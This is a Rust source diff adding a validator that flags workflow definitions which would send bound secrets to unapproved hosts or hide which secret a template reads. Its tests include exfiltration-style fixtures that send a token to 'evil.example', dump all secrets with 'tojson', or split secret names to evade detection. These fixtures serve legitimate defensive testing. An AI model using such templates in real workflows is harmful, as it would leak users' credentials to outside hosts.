@@ -1,0 +1,388 @@
+//! Secrets that may be sent to some hosts alone, and the tasks of a definition that would send them elsewhere.
+//!
+//! Such a secret stands in the parameters of tasks that send, by its own name, and nowhere else: whatever another task makes of it could be sent by a
+//! third. So a definition that is sound gives away no more than its requests, whose hosts are compared when they are made.
+
+mod name;
+mod place;
+
+pub use name::HostName;
+
+use crate::secrets::usual_hosts;
+use place::{Way, sends, written};
+use regex::Regex;
+use serde_json::Value;
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::LazyLock;
+use url::Url;
+
+/// A secret that is named as definitions name it, closed.
+static NAMED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(
+        r#"\bSecrets\s*(?:\.\s*([A-Za-z_][A-Za-z0-9_]*)|\[\s*\\?["']([A-Za-z0-9_]+)\\?["']\s*\])(\s*\()?"#,
+    )
+    .ok()
+});
+/// Secrets, however they are come by.
+static TOUCHED: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\bSecrets\b").ok());
+
+/// Hosts by the name of the secret; others may be sent anywhere.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct BoundSecrets(BTreeMap<String, Binding>);
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct Binding {
+    hosts: Vec<HostName>,
+    /// Nobody has said so: it is where such a token belongs.
+    is_usual: bool,
+}
+
+impl FromIterator<(String, Vec<HostName>)> for BoundSecrets {
+    fn from_iter<T: IntoIterator<Item = (String, Vec<HostName>)>>(secrets: T) -> Self {
+        let bound = secrets.into_iter().filter(|(_, hosts)| !hosts.is_empty());
+        Self(bound.map(|(name, hosts)| (name, Binding { hosts, is_usual: false })).collect())
+    }
+}
+
+/// Something that is wrong with a definition, and where.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Leak {
+    /// Such as `tasks[2].params.url`.
+    pub place: String,
+    pub reason: String,
+}
+
+/// The task whose parameters are looked at.
+#[derive(Clone, Copy)]
+struct Sender<'d> {
+    kind: &'d str,
+    params: &'d Value,
+}
+
+impl Binding {
+    /// With what a person can do about it.
+    fn remedy(&self, reason: String) -> String {
+        if self.is_usual {
+            return format!("{reason}; Settings, Workflow secrets, says where else it may be sent");
+        }
+        reason
+    }
+}
+
+impl BoundSecrets {
+    pub fn is_empty(&self) -> bool {
+        self.0.is_empty()
+    }
+
+    /// Binds one of the environment of the service that nobody has bound: to the host in it where it is an address, else to where a token of that name
+    /// belongs.
+    pub fn bind_usual(&mut self, name: &str, value: Option<&str>) {
+        let Some(usual) = usual_hosts(name) else { return };
+        let address = value.and_then(|value| Url::parse(value.trim()).ok());
+        let own = address.as_ref().and_then(Url::host_str).map(|host| vec![host]);
+        let hosts = own.unwrap_or_else(|| usual.to_vec());
+        let hosts: Vec<HostName> = hosts.iter().filter_map(|host| HostName::read(host).ok()).collect();
+        self.0.insert(name.to_owned(), Binding { hosts, is_usual: true });
+    }
+
+    /// Whether all of these secrets may be sent to a host; why not, with the host for the reader.
+    ///
+    /// # Errors
+    /// The first that may not.
+    pub fn check<'n>(
+        &self,
+        names: impl IntoIterator<Item = &'n str>,
+        host: Option<&str>,
+    ) -> Result<(), String> {
+        for name in names {
+            let Some(binding) = self.0.get(name) else { continue };
+            match host {
+                Some(host) if binding.hosts.iter().any(|known| known.allows(host)) => {}
+                Some(host) => {
+                    return Err(binding.remedy(format!("{}, and this task sends to {host}", self.rule(name))));
+                }
+                None => {
+                    let rule = self.rule(name);
+                    return Err(
+                        binding.remedy(format!("{rule}, and it is not known where this task sends it"))
+                    );
+                }
+            }
+        }
+        Ok(())
+    }
+
+    fn rule(&self, name: &str) -> String {
+        let hosts = self.0.get(name).into_iter().flat_map(|binding| &binding.hosts);
+        let hosts: Vec<String> = hosts.map(ToString::to_string).collect();
+        format!("the secret {name} may be sent to {} alone", hosts.join(", "))
+    }
+
+    /// What of a definition would send a secret elsewhere, or hides where it goes.
+    pub fn leaks(&self, definition: &Value) -> Vec<Leak> {
+        let mut found = Vec::new();
+        // Templates see what is named in any way, and nothing else.
+        if crate::mask::named(definition).iter().any(|name| self.0.contains_key(name)) {
+            self.visit(definition, "", None, &mut found);
+        }
+        found
+    }
+
+    fn visit(&self, value: &Value, place: &str, sender: Option<Sender<'_>>, found: &mut Vec<Leak>) {
+        match value {
+            Value::String(text) => self.look(text, place, sender, found),
+            Value::Array(list) => {
+                for (number, one) in list.iter().enumerate() {
+                    self.visit(one, &format!("{place}[{number}]"), sender, found);
+                }
+            }
+            Value::Object(fields) => {
+                let kind = value["type"].as_str().unwrap_or_default();
+                let params = fields.get("params").filter(|params| sender.is_none() && sends(kind, params));
+                let own = params.map(|params| Sender { kind, params });
+                if let Some(own) = own {
+                    self.look_at_implied(own, place, found);
+                }
+                for (key, one) in fields {
+                    let inner = if place.is_empty() { key.clone() } else { format!("{place}.{key}") };
+                    self.look(key, &inner, None, found);
+                    self.visit(
+                        one,
+                        &inner,
+                        if key == "params" && own.is_some() { own } else { sender },
+                        found,
+                    );
+                }
+            }
+            _ => {}
+        }
+    }
+
+    /// Tokens that a task uses without naming them.
+    fn look_at_implied(&self, sender: Sender<'_>, place: &str, found: &mut Vec<Leak>) {
+        // A template may give another name, and a token that nobody has bound may not be there at all: the run knows both.
+        let is_usual = |name: &String| self.0.get(name).is_some_and(|binding| binding.is_usual);
+        let mut names = implied(sender.kind, sender.params);
+        names.retain(|name| !is_usual(name));
+        if let Way::To(host) = written(sender.kind, sender.params)
+            && let Err(reason) = self.check(names.iter().map(String::as_str), Some(&host))
+        {
+            found.push(Leak { place: format!("{place}.params"), reason });
+        }
+    }
+
+    fn look(&self, text: &str, place: &str, sender: Option<Sender<'_>>, found: &mut Vec<Leak>) {
+        // What is no template is sent as it stands.
+        if !text.contains("{{") && !text.contains("{%") {
+            return;
+        }
+        let mut leak = |reason: String| found.push(Leak { place: place.to_owned(), reason });
+        if hides(text) {
+            let names: Vec<&str> = self.0.keys().map(String::as_str).collect();
+            return leak(format!(
+                "expected {{{{ Secrets.NAME }}}}: of {}, which may be sent to some hosts alone, it must be seen where they go",
+                names.join(", ")
+            ));
+        }
+        for (name, binding) in names_in(text).iter().filter_map(|name| self.0.get_key_value(name)) {
+            let Some(sender) = sender else {
+                leak(binding.remedy(format!(
+                    "{}: it stands in the parameters of tasks that send there, and nowhere else",
+                    self.rule(name)
+                )));
+                continue;
+            };
+            // What a template or a secret gives is compared by the run.
+            if let Way::To(host) = written(sender.kind, sender.params)
+                && let Err(reason) = self.check([name.as_str()], Some(&host))
+            {
+                leak(reason);
+            }
+        }
+    }
+}
+
+/// Names of secrets in a text.
+fn names_in(text: &str) -> BTreeSet<String> {
+    let found = NAMED.iter().flat_map(|pattern| pattern.captures_iter(text));
+    found.filter_map(|found| Some(found.get(1).or(found.get(2))?.as_str().to_owned())).collect()
+}
+
+/// From where the first template begins to where the last one ends: quotes and comments may hide where one ends in between.
+fn templates(text: &str) -> &str {
+    let start = ["{{", "{%", "{#"].iter().filter_map(|sign| text.find(sign)).min();
+    let end = ["}}", "%}"].iter().filter_map(|sign| text.rfind(sign)).max();
+    start.zip(end).and_then(|(start, end)| text.get(start..end)).unwrap_or_default()
+}
+
+/// Whether a text with templates comes by secrets otherwise than by one name each.
+fn hides(text: &str) -> bool {
+    let text = templates(text);
+    let touched = TOUCHED.iter().flat_map(|pattern| pattern.find_iter(text)).count();
+    let named = NAMED.iter().flat_map(|pattern| pattern.captures_iter(text));
+    touched != named.filter(|found| found.get(3).is_none()).count()
+}
+
+/// Names of the secrets in the texts of a value.
+pub fn named(value: &Value) -> BTreeSet<String> {
+    match value {
+        Value::String(text) => names_in(text),
+        Value::Array(list) => list.iter().flat_map(named).collect(),
+        Value::Object(fields) => fields.values().flat_map(named).collect(),
+        _ => BTreeSet::new(),
+    }
+}
+
+/// Secrets that a call uses without naming them: tokens of the service, and those that integrations stand for.
+pub fn implied(kind: &str, params: &Value) -> Vec<String> {
+    place::implied(kind, params)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{BoundSecrets, HostName, named};
+    use serde_json::{Value, json};
+
+    fn bound() -> BoundSecrets {
+        let host = |text: &str| HostName::read(text).unwrap();
+        BoundSecrets::from_iter([
+            ("TOKEN".to_owned(), vec![host("api.github.com"), host("*.example.com")]),
+            ("FREE".to_owned(), Vec::new()),
+        ])
+    }
+
+    fn told(tasks: Value) -> String {
+        let leaks = bound().leaks(&json!({ "tasks": tasks }));
+        leaks.iter().map(|leak| format!("{}: {}", leak.place, leak.reason)).collect::<Vec<_>>().join("; ")
+    }
+
+    fn http(url: &str, more: Value) -> Value {
+        let mut params = json!({ "url": url });
+        params.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+        json!([{ "id": "ask", "type": "integrations.http", "params": params }])
+    }
+
+    fn bearer() -> Value {
+        json!({ "auth_type": "bearer", "bearer_token": "{{ Secrets.TOKEN }}" })
+    }
+
+    #[test]
+    fn a_secret_goes_to_its_hosts_and_nowhere_else() {
+        for url in [
+            "https://api.github.com/user",
+            "https://API.GitHub.com:443/user",
+            "https://a.b.example.com",
+            "{{ Inputs.url }}",
+            "https://{{ Inputs.host }}/x",
+            "https://api.github.com/{{ Inputs.path }}",
+        ] {
+            assert_eq!(told(http(url, bearer())), "", "{url}");
+        }
+        for url in [
+            "https://evil.example/",
+            "https://example.com",
+            "https://api.github.com.evil.example/x",
+            "https://api.github.com@evil.example/x",
+            "https://evil.example/{{ Secrets.TOKEN }}",
+        ] {
+            assert!(
+                told(http(url, bearer())).contains("may be sent to api.github.com, *.example.com alone"),
+                "{url}"
+            );
+        }
+        assert_eq!(told(http("https://evil.example", json!({ "body": "{{ Secrets.FREE }}" }))), "");
+    }
+
+    #[test]
+    fn a_secret_stands_where_it_is_sent_and_is_called_by_its_name() {
+        let say = |text: &str| json!([{ "id": "say", "type": "core.print", "params": { "message": text } }]);
+        assert!(
+            told(say("{{ Secrets.TOKEN | b64encode }}"))
+                .starts_with("tasks[0].params.message: the secret TOKEN")
+        );
+        let mut set = http("https://api.github.com", bearer());
+        set[0]["set_vars"] = json!({ "copy": "{{ Secrets['TOKEN'] }}" });
+        assert!(told(set).starts_with("tasks[0].set_vars.copy: the secret TOKEN"));
+        for text in [
+            "{{ Secrets | tojson }}",
+            "{{ Secrets['TO' ~ 'KEN'] }}",
+            "{{ Secrets.get('TOKEN') }}",
+            "{% set s = Secrets %}{{ s.TOKEN }}",
+            "{{ Secrets['TOKEN' ~ ''] }}",
+        ] {
+            let mut tasks = http("https://api.github.com", bearer());
+            tasks.as_array_mut().unwrap().extend(say(text).as_array().unwrap().clone());
+            assert!(told(tasks).contains("it must be seen where they go"), "{text}");
+        }
+        let group = json!([{ "id": "g", "type": "core.group", "params": { "tasks": http("https://evil.example", bearer()) } }]);
+        assert!(told(group).starts_with("tasks[0].params.tasks[0].params.bearer_token: the secret TOKEN"));
+        let script = json!([{ "id": "s", "type": "scripting.run_script", "params": { "script": "x", "env": { "T": "{{ Secrets.TOKEN }}" } } }]);
+        assert!(told(script).contains("and nowhere else"));
+        let hook = json!([{ "id": "a", "type": "core.print", "params": { "message": "x" },
+            "hooks": { "always": http("https://evil.example", bearer()) } }]);
+        assert!(told(hook).contains("sends to evil.example"));
+    }
+
+    #[test]
+    fn tokens_of_repositories_and_slack_go_where_the_task_says() {
+        let pull = |base: &str| {
+            json!([{ "id": "p", "type": "scm.get_pull_request", "params": {
+                "provider": "github", "repository": "a/b", "number": 1, "base_url": base, "token": "{{ Secrets.TOKEN }}" } }])
+        };
+        assert_eq!(told(pull("")), "");
+        assert_eq!(told(pull("https://git.example.com")), "");
+        assert!(told(pull("https://git.evil.example")).contains("sends to git.evil.example"));
+    }
+
+    #[test]
+    fn what_hides_a_name_from_a_look_at_the_whole_is_found() {
+        let leaks = |url: &str, text: &str| {
+            let tasks = http(url, json!({ "body": text }));
+            bound().leaks(&json!({ "tasks": tasks }))
+        };
+        // Named by half, so that nothing else in the definition names it.
+        assert!(!leaks("https://evil.example", "{{ Secrets['TOKEN' ~ ''] }}").is_empty());
+        // A token comes along with tasks that use it, under no name.
+        let tasks = json!([
+            { "id": "p", "type": "scm.get_pull_request", "params": { "provider": "github", "repository": "a/b", "number": 1 } },
+            { "id": "s", "type": "core.print", "params": { "message": "{{ Secrets | tojson }}" } },
+        ]);
+        let github = BoundSecrets::from_iter([(
+            "GITHUB_TOKEN".to_owned(),
+            vec![HostName::read("api.github.com").unwrap()],
+        )]);
+        let told = github.leaks(&json!({ "tasks": tasks }));
+        assert_eq!(told.len(), 1, "{told:?}");
+        let prose = json!([{ "id": "s", "type": "core.print", "params": { "message": "Secrets of {{ Inputs.name }}: no Secrets." } },
+            { "id": "p", "type": "scm.get_pull_request", "params": { "provider": "github", "repository": "a/b", "number": 1 } }]);
+        assert!(github.leaks(&json!({ "tasks": prose })).is_empty());
+        assert_eq!(named(&json!({ "a": ["{{ Secrets\n.TOKEN }}"] })), ["TOKEN".to_owned()].into());
+    }
+
+    #[test]
+    fn a_token_that_no_task_names_is_compared_with_an_address_that_is_written_out() {
+        let github = BoundSecrets::from_iter([(
+            "GITHUB_TOKEN".to_owned(),
+            vec![HostName::read("api.github.com").unwrap()],
+        )]);
+        let told = |base: &str, token: &str| {
+            github.leaks(&json!({ "tasks": [{ "id": "p", "type": "scm.get_pull_request", "params": {
+                "provider": "github", "repository": "a/b", "number": 1, "base_url": base, "token": token } }] }))
+        };
+        assert!(told("", "").is_empty());
+        assert!(told("https://git.own.example", "{{ Secrets.OWN }}").is_empty());
+        assert_eq!(told("https://git.own.example", "")[0].place, "tasks[0].params");
+        let mut usual = BoundSecrets::default();
+        usual.bind_usual("GITHUB_TOKEN", None);
+        usual.bind_usual("OTHER", None);
+        assert_eq!(
+            usual.check(["OTHER", "GITHUB_TOKEN"], Some("git.own.example")).unwrap_err(),
+            "the secret GITHUB_TOKEN may be sent to api.github.com, github.com, uploads.github.com alone, and this task sends to git.own.example; \
+             Settings, Workflow secrets, says where else it may be sent"
+        );
+        usual.bind_usual("GITHUB_TOKEN", Some("https://:token@git.own.example"));
+        assert!(usual.check(["GITHUB_TOKEN"], Some("git.own.example")).is_ok());
+        let refused = bound().check(["TOKEN"], None).unwrap_err();
+        assert!(refused.ends_with("it is not known where this task sends it"), "{refused}");
+    }
+}
